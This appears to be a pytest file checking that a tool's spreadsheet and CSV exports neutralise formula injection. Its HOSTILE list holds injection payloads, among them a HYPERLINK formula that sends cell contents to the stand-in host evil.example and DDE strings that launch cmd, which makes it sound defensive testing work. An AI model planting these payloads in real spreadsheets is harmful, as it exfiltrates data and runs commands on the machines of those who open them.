"""No cell Studio writes is a live formula: every workbook and CSV of a project full of hostile texts, scanned."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from studio.cli import main
from studio.exports.common import cell_text, looks_like_formula
from studio.samples import sample_project
from studio.store.document import ProjectFile

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
]

TEXT_FIELDS = ("visual", "voiceover", "onscreen_text", "sound", "props", "location", "talent", "notes")


def _hostile_project(path: Path) -> Path:
    """The English sample with a hostile text in every name and text a sheet or CSV shows."""
    project, blobs = sample_project("en", frame_edge=120)
    project.title = HOSTILE[0]
    script = project.scripts[0]
    for variant, text in zip(script.variants, HOSTILE, strict=False):
        variant.name = f"{text} {variant.id[:4]}"  # distinct names, each starting with a trigger
        variant.hypothesis = text
    for n, beat in enumerate(script.beats):
        beat.name = HOSTILE[n % len(HOSTILE)]
        for alt in beat.alternatives:
            for m, shot in enumerate(alt.shots):
                text = HOSTILE[(n + m) % len(HOSTILE)]
                shot.code = f"{text}{n}{m}"
                for name in TEXT_FIELDS:
                    setattr(shot, name, text)
    for n, creator in enumerate(project.creators):
        text = HOSTILE[n % len(HOSTILE)]
        creator.name, creator.handle, creator.link, creator.notes = f"{text}{n}", text, text, text
    ProjectFile.create(path, project, blobs).close()
    return path


def _xml_formulas(path: Path) -> list[str]:
    """Every <f> element in the workbook's sheets, read from the zip itself."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >].*?</f>", zf.read(name).decode("utf-8"))
    return found


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_every_cell_of_every_spreadsheet_export_is_inert(tmp_path: Path, lang: str) -> None:
    source = _hostile_project(tmp_path / "hostile.studio")
    book, table = tmp_path / "book.xlsx", tmp_path / "list.csv"
    assert (
        main(["export", str(source), "-f", "xlsx", "--lang", lang, "-o", str(book), "--include", "results"])
        == 0
    )
    assert main(["export", str(source), "-f", "csv", "--all", "--lang", lang, "-o", str(table)]) == 0
    wb = load_workbook(book)
    assert {"Results", "Creators"} <= set(wb.sheetnames) or {"投放结果", "达人"} <= set(wb.sheetnames)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and looks_like_formula(cell.value):
                    # Shown as typed, and kept text if someone edits the cell in Excel.
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    seen += 1
    assert seen > 40  # the hostile texts did reach the sheets (results, creators, shot list, boards)
    assert _xml_formulas(book) == []
    rows = list(csv.reader(io.StringIO(table.read_text("utf-8-sig"), newline="")))
    header = rows[0]
    assert any("HYPERLINK" in h for h in header)  # a variant's column
    for row in rows:
        for field in row:
            assert not looks_like_formula(field), field
            assert not field.lstrip().startswith(("=", "+", "-", "@", "＝")), field


def test_numbers_stay_numbers_and_plain_text_stays_plain(tmp_path: Path) -> None:
    assert cell_text(-3) == "-3" and cell_text(2.5) == "2.5"
    assert cell_text("=1+1") == "'=1+1" and cell_text("cmd|' /C calc'!A0").startswith("'")
    assert cell_text("价格 = 99") == "价格 = 99" and cell_text("A|B") == "A|B"
    source = _hostile_project(tmp_path / "hostile.studio")
    book = tmp_path / "book.xlsx"
    assert (
        main(["export", str(source), "-f", "xlsx", "--lang", "en", "-o", str(book), "--include", "results"])
        == 0
    )
    ws = load_workbook(book)["Results"]
    plays = [r[2].value for r in ws.iter_rows(min_row=3, max_row=5)]
    assert all(isinstance(v, int) for v in plays if v is not None) and any(plays)
